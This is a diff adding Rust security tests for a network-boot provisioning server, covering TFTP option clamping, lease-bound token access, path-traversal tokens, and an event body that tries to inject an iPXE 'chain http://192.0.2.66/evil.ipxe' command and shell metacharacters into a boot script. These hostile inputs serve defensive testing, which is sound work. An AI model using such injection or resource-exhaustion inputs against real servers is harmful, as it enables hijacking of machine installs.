@@ -172,6 +172,62 @@ fn ipxe_bytes(name: &str) -> Vec<u8> {
         .expect("Debian's ipxe package is installed by the README's set-up")
 }
 
+/// A client cannot make a TFTP session hold its slot for minutes (`timeout 255`) or a
+/// whole file in flight (`windowsize 65535`), nor take every session from one address.
+#[test]
+fn tftp_clamps_hostile_options_and_caps_sessions_per_client() -> Result<()> {
+    let mut lab = Lab::new()?;
+    let _srv = server(
+        &lab,
+        "authoritative",
+        "[tftp]\nmax_sessions_per_client = 3\n",
+    )?;
+    let c = lab.client("52:54:00:05:00:02", Some("192.0.2.51/24"))?;
+    // Raw RRQs that ask for the largest options, each from its own port, never ACKed.
+    let probe = r#"
+import socket, struct, sys
+socks = []
+for i in range(5):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(3)
+    rrq = b"\x00\x01undionly.kpxe\x00octet\x00timeout\x00255\x00blksize\x0065464\x00windowsize\x0065535\x00tsize\x000\x00"
+    s.sendto(rrq, ("192.0.2.1", 69))
+    socks.append(s)
+for s in socks:
+    try:
+        data, _ = s.recvfrom(70000)
+    except socket.timeout:
+        print("timeout"); continue
+    op = struct.unpack("!H", data[:2])[0]
+    if op == 6:
+        f = data[2:].split(b"\x00")
+        print("OACK " + " ".join(x.decode() for x in f if x))
+    elif op == 5:
+        print("ERROR " + data[4:].rstrip(b"\x00").decode())
+    else:
+        print("OP %d" % op)
+"#;
+    let out = c.sh(&format!("python3 -c '{}'", probe.replace('\'', "'\\''")))?;
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines.len(), 5, "{out}");
+    let oacks: Vec<&&str> = lines.iter().filter(|l| l.starts_with("OACK")).collect();
+    assert_eq!(oacks.len(), 3, "three sessions per client: {out}");
+    for o in &oacks {
+        assert!(o.contains("blksize 8192"), "{o}");
+        assert!(o.contains("windowsize 32"), "{o}");
+        assert!(!o.contains("timeout 255"), "client timeout granted: {o}");
+    }
+    assert_eq!(
+        lines
+            .iter()
+            .filter(|l| **l == "ERROR too many transfers from this address, retry later")
+            .count(),
+        2,
+        "{out}"
+    );
+    Ok(())
+}
+
 #[test]
 fn atftp_and_curl_fetch_ipxe_binaries_byte_exact() -> Result<()> {
     let mut lab = Lab::new()?;
@@ -378,11 +434,12 @@ fn token_from_script(script: &str) -> String {
 
 #[test]
 fn preseed_needs_the_nodes_live_token() -> Result<()> {
-    let lab = Lab::new()?;
+    let mut lab = Lab::new()?;
     let srv = server(&lab, "authoritative", "")?;
     srv.add_node("52:54:00:09:00:01", "web1", "lab-single-disk", &[])?;
     srv.add_node("52:54:00:09:00:02", "web2", "lab-single-disk", &["--ready"])?;
-    let (code, script) = srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?;
+    let node = lab.node_client("52:54:00:09:00:01")?;
+    let (code, script) = node.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?;
     assert_eq!(code, 200);
     let script = String::from_utf8(script)?;
     assert!(
@@ -392,7 +449,7 @@ fn preseed_needs_the_nodes_live_token() -> Result<()> {
     );
     let token = token_from_script(&script);
     let url = |t: &str, f: &str| format!("http://192.0.2.1:8080/install/{t}/{f}");
-    let (code, preseed) = srv.curl(&[&url(&token, "preseed.cfg")])?;
+    let (code, preseed) = node.curl(&[&url(&token, "preseed.cfg")])?;
     assert_eq!(code, 200);
     let preseed = String::from_utf8(preseed)?;
     assert!(
@@ -407,18 +464,121 @@ fn preseed_needs_the_nodes_live_token() -> Result<()> {
         "../../etc".into(),
     ] {
         assert_eq!(
-            srv.curl(&[&url(&bad, "preseed.cfg")])?.0,
+            node.curl(&[&url(&bad, "preseed.cfg")])?.0,
             404,
             "token {bad}"
         );
     }
-    assert_eq!(srv.curl(&[&url(&token, "passwd")])?.0, 404);
+    assert_eq!(node.curl(&[&url(&token, "passwd")])?.0, 404);
+
+    // Another host on the LAN (a static address, and one with its own lease, and the
+    // appliance's own address) gets neither the script nor anything the token unlocks.
+    let other = lab.node_client("52:54:00:09:00:99")?;
+    let stranger = lab.client("52:54:00:09:00:66", Some("192.0.2.66/24"))?;
+    let from_stranger = |args: &[&str]| rackseed_tests::curl_in(&stranger.name, args);
+    for (who, res) in [
+        (
+            "a static address",
+            from_stranger(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?,
+        ),
+        (
+            "another leased machine",
+            other.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?,
+        ),
+        (
+            "the appliance itself",
+            srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?,
+        ),
+        (
+            "a static address",
+            from_stranger(&[&url(&token, "preseed.cfg")])?,
+        ),
+        (
+            "a static address",
+            from_stranger(&[&url(&token, "late.sh")])?,
+        ),
+        (
+            "a static address",
+            from_stranger(&["--data", "x", &url(&token, "events/late_command")])?,
+        ),
+        (
+            "another leased machine",
+            other.curl(&[&url(&token, "preseed.cfg")])?,
+        ),
+        (
+            "another leased machine",
+            other.curl(&["--data", "x", &url(&token, "events/error")])?,
+        ),
+        (
+            "a static address",
+            from_stranger(&[&format!(
+                "http://192.0.2.1:8080/install/{token}/agent/rackseed"
+            )])?,
+        ),
+    ] {
+        assert_eq!(
+            res.0,
+            404,
+            "served to {who}: {}",
+            String::from_utf8_lossy(&res.1)
+        );
+        assert!(
+            !String::from_utf8_lossy(&res.1).contains(&token),
+            "token leaked to {who}"
+        );
+    }
+    assert_eq!(
+        srv.node_state("web1")?,
+        "provisioning",
+        "a refused event moved the node"
+    );
+    let refused: Vec<String> = srv
+        .timeline("web1")?
+        .into_iter()
+        .filter(|(k, _)| k == "refused")
+        .map(|(_, m)| m)
+        .collect();
+    for want in [
+        "refused the install script (iPXE) to 192.0.2.66: this node holds no DHCP lease",
+        &format!(
+            "to {}: rackseed leased that address to 52:54:00:09:00:99",
+            other.ip
+        ),
+        "refused the install script (iPXE) to 192.0.2.1",
+    ] {
+        assert!(
+            refused.iter().any(|m| m.contains(want)),
+            "no refusal `{want}` on the timeline: {refused:#?}"
+        );
+    }
+    // Once a minute per address: the repeated refusals from 192.0.2.66 are one event.
+    assert_eq!(
+        refused
+            .iter()
+            .filter(|m| m.contains(" to 192.0.2.66:"))
+            .count(),
+        1,
+        "{refused:#?}"
+    );
+    let metrics = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
+    assert!(
+        metrics.contains("rackseed_token_refused_total 9"),
+        "{}",
+        metrics
+            .lines()
+            .filter(|l| l.contains("refused"))
+            .collect::<Vec<_>>()
+            .join("\n")
+    );
+    // The node itself is still served.
+    assert_eq!(node.curl(&[&url(&token, "preseed.cfg")])?.0, 200);
+
     // A ready node has no live token; its script says it waits.
     let (_, s2) = srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-02.ipxe"])?;
     assert!(String::from_utf8(s2)?.contains("is ready but not scheduled"));
     // Events move the node; once installed the preseed is gone.
     let ev = |kind: &str| {
-        srv.curl(&[
+        node.curl(&[
             "--data",
             "x",
             &format!("http://192.0.2.1:8080/install/{token}/events/{kind}"),
@@ -440,9 +600,14 @@ fn preseed_needs_the_nodes_live_token() -> Result<()> {
     assert_eq!(ev("late_command")?, 200);
     assert_eq!(srv.node_state("web1")?, "installed");
     assert_eq!(
-        srv.curl(&[&url(&token, "preseed.cfg")])?.0,
+        node.curl(&[&url(&token, "preseed.cfg")])?.0,
         404,
         "preseed served to an installed node"
+    );
+    assert_eq!(
+        ev("error")?,
+        404,
+        "the install token works after the install"
     );
     let (_, s3) = srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?;
     assert!(
@@ -451,11 +616,64 @@ fn preseed_needs_the_nodes_live_token() -> Result<()> {
     );
     // Reprovision: a fresh token, the old one dead.
     srv.cli(&["node", "reprovision", "web1"])?;
-    let (_, s4) = srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?;
+    let (_, s4) = node.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?;
     let t2 = token_from_script(&String::from_utf8(s4)?);
     assert_ne!(t2, token);
-    assert_eq!(srv.curl(&[&url(&token, "preseed.cfg")])?.0, 404);
-    assert_eq!(srv.curl(&[&url(&t2, "preseed.cfg")])?.0, 200);
+    assert_eq!(node.curl(&[&url(&token, "preseed.cfg")])?.0, 404);
+    assert_eq!(node.curl(&[&url(&t2, "preseed.cfg")])?.0, 200);
+    Ok(())
+}
+
+/// A failure reason an installer posts (or a host that got hold of a token) cannot put
+/// commands into the node's next boot script: it is shown as text, `$`, `|`, `&` and
+/// line breaks replaced.
+#[test]
+fn an_event_body_cannot_inject_into_the_next_boot_script() -> Result<()> {
+    let lab = Lab::new()?;
+    let srv = server(&lab, "authoritative", "")?;
+    let mac = "52:54:00:09:00:07";
+    srv.add_node(mac, "inject1", "lab-single-disk", &[])?;
+    let node = lab.node_client(mac)?;
+    let token = node.install_token(mac)?;
+    let body = srv.dir.path().join("event-body");
+    std::fs::write(
+        &body,
+        "disk gone\nchain http://192.0.2.66/evil.ipxe\r\nshell || ${root} && x\u{0}#y",
+    )?;
+    let (code, _) = node.curl(&[
+        "--data-binary",
+        &format!("@{}", body.display()),
+        &format!("http://192.0.2.1:8080/install/{token}/events/error"),
+    ])?;
+    assert_eq!(code, 200);
+    assert_eq!(srv.node_state("inject1")?, "failed");
+    for fetch in [
+        node.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-07.ipxe"])?,
+        srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-07.ipxe"])?,
+    ] {
+        let script = String::from_utf8(fetch.1)?;
+        let commands: Vec<&str> = script
+            .lines()
+            .filter(|l| !l.starts_with('#'))
+            .filter_map(|l| l.split_whitespace().next())
+            .collect();
+        assert_eq!(
+            commands,
+            ["echo", "echo", "echo", "sleep", "chain"],
+            "{script}"
+        );
+        assert!(!script.contains("evil.ipxe\n"), "{script}");
+        assert!(!script.contains('$'), "{script}");
+        assert!(
+            script.contains("failed: disk gone?chain http://192.0.2.66/evil.ipxe"),
+            "{script}"
+        );
+        let last = script.lines().last().unwrap_or_default();
+        assert_eq!(
+            last,
+            "chain --replace http://192.0.2.1:8080/boot/52-54-00-09-00-07.ipxe"
+        );
+    }
     Ok(())
 }
 
@@ -468,17 +686,18 @@ fn expired_preseed_token_gets_404_and_the_node_fails_visibly() -> Result<()> {
     );
     let srv = Server::start(&lab, &cfg)?;
     srv.add_node("52:54:00:0a:00:01", "late1", "lab-single-disk", &[])?;
-    let (_, script) = srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-0a-00-01.ipxe"])?;
+    let node = lab.node_client("52:54:00:0a:00:01")?;
+    let (_, script) = node.curl(&["http://192.0.2.1:8080/boot/52-54-00-0a-00-01.ipxe"])?;
     let token = token_from_script(&String::from_utf8(script)?);
     std::thread::sleep(Duration::from_millis(2500));
     assert_eq!(
-        srv.curl(&[&format!(
+        node.curl(&[&format!(
             "http://192.0.2.1:8080/install/{token}/preseed.cfg"
         )])?
         .0,
         404
     );
-    let (_, script) = srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-0a-00-01.ipxe"])?;
+    let (_, script) = node.curl(&["http://192.0.2.1:8080/boot/52-54-00-0a-00-01.ipxe"])?;
     let script = String::from_utf8(script)?;
     assert!(script.contains("failed: install token expired"), "{script}");
     assert_eq!(srv.node_state("late1")?, "failed");
